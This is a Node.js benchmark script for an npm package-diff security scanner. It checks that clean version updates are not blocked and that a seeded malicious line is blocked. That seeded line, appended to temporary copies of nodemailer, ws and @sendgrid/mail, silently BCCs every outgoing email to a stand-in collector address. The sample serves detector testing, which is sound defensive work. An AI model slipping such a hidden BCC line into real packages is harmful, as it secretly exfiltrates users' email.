#!/usr/bin/env node
// Real update pairs: none may block, patch updates are never sent to review, at most two of the others are. A release compared
// with itself is silent; the same release with one seeded line is blocked for that line.
// Usage: node benches/corpus.mjs WAXSEAL [PAIRS.tsv] [--any]   (--any: only report, set no bar)
import { execFileSync, spawnSync } from 'node:child_process';
import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const [binary, ...rest] = process.argv.slice(2);
const any = rest.includes('--any');
const list = rest.find((word) => !word.startsWith('--')) ?? fileURLToPath(new URL('../fixtures/corpus/clean-pairs.tsv', import.meta.url));
const REVIEWS_ALLOWED = 2;
const SEEDED = ['nodemailer@7.0.6', 'ws@8.18.3', '@sendgrid/mail@8.1.6'];
const MAILBOX = 'archive@collector.example';

function waxseal(...args) {
  const done = spawnSync(binary, [...args, '--format', 'json'], { encoding: 'utf8', maxBuffer: 1 << 30, timeout: 300_000 });
  let report;
  try {
    report = JSON.parse(done.stdout);
  } catch {
    return { status: done.status, entry: undefined, stderr: done.stderr };
  }
  return { status: done.status, entry: report.packages[0], stderr: done.stderr };
}

const pairs = readFileSync(list, 'utf8').split('\n').slice(1).filter(Boolean).map((line) => line.split('\t'));
const problems = [];
let reviews = 0;
let parsed = 0;
let code = 0;
for (const [name, , kind, old, recent] of pairs) {
  const { status, entry, stderr } = waxseal('diff', `${name}@${old}`, `${name}@${recent}`);
  if (!entry) {
    problems.push(`${name} ${old} → ${recent}: no report, exit status ${status}: ${stderr.trim()}`);
    continue;
  }
  parsed += entry.counts.parsed;
  code += entry.counts.code;
  const raised = entry.findings.filter((finding) => finding.decision !== 'allow');
  console.log(`${entry.decision.padEnd(7)}${entry.complete ? '' : 'INCOMPLETE '}${kind.padEnd(6)} ${name} ${old} → ${recent}`);
  for (const finding of raised) console.log(`         ${finding.indicator}: ${finding.summary}`);
  if (entry.decision === 'block') problems.push(`${name} ${old} → ${recent} is blocked`);
  if (entry.decision === 'review') {
    reviews += 1;
    if (kind === 'patch') problems.push(`${name} ${old} → ${recent}, a patch update, is sent to review`);
  }
  if (!entry.complete) problems.push(`${name} ${old} → ${recent} is incomplete: ${entry.gaps.map((gap) => gap.reason).join('; ')}`);
  if (entry.counts.parsed !== entry.counts.code) problems.push(`${name}@${recent}: ${entry.counts.parsed} of ${entry.counts.code} files that Node can load were parsed`);
}
if (reviews > REVIEWS_ALLOWED) problems.push(`${reviews} pairs are sent to review, more than ${REVIEWS_ALLOWED}`);
console.log(`\n${pairs.length} pairs, ${reviews} to review; ${parsed} of ${code} files that Node can load parsed`);

if (!any) {
  for (const [name, , , , recent] of pairs) {
    const { entry, status } = waxseal('diff', `${name}@${recent}`, `${name}@${recent}`);
    const quiet = entry && status === 0 && entry.findings.every((finding) => finding.new !== true)
      && entry.change.gained.length === 0 && entry.change.manifest.length === 0 && entry.change.files.changed.length === 0;
    if (!quiet) problems.push(`${name}@${recent} compared with itself is not silent`);
  }
  const folder = mkdtempSync(join(tmpdir(), 'waxseal-corpus-'));
  for (const spec of SEEDED) {
    const at = join(folder, spec.replace(/\W/g, '-'));
    mkdirSync(at);
    execFileSync('npm', ['pack', '--silent', spec], { cwd: at });
    const archive = readdirSync(at).find((file) => file.endsWith('.tgz'));
    execFileSync('tar', ['xzf', archive], { cwd: at });
    const manifest = JSON.parse(readFileSync(join(at, 'package/package.json'), 'utf8'));
    const main = manifest.main ?? 'index.js';
    const seed = `\nmodule.exports.deliver = (client, to, text) => client.sendMail({ to, text, bcc: '${MAILBOX}' });\n`;
    appendFileSync(join(at, 'package', main.endsWith('.js') ? main : `${main}.js`), seed);
    const { entry, status } = waxseal('diff', join(at, archive), join(at, 'package'));
    const found = entry?.findings.some((finding) => finding.decision === 'block' && finding.evidence.some((proof) => proof.values.recipient === MAILBOX));
    if (status !== 1 || !found) problems.push(`${spec} with one seeded line is not blocked for it (exit status ${status})`);
    else console.log(`seeded ${spec}: blocked for ${MAILBOX}`);
  }
  rmSync(folder, { recursive: true, force: true });
}
for (const problem of problems) console.log(`FAILED ${problem}`);
process.exitCode = !any && problems.length > 0 ? 1 : 0;
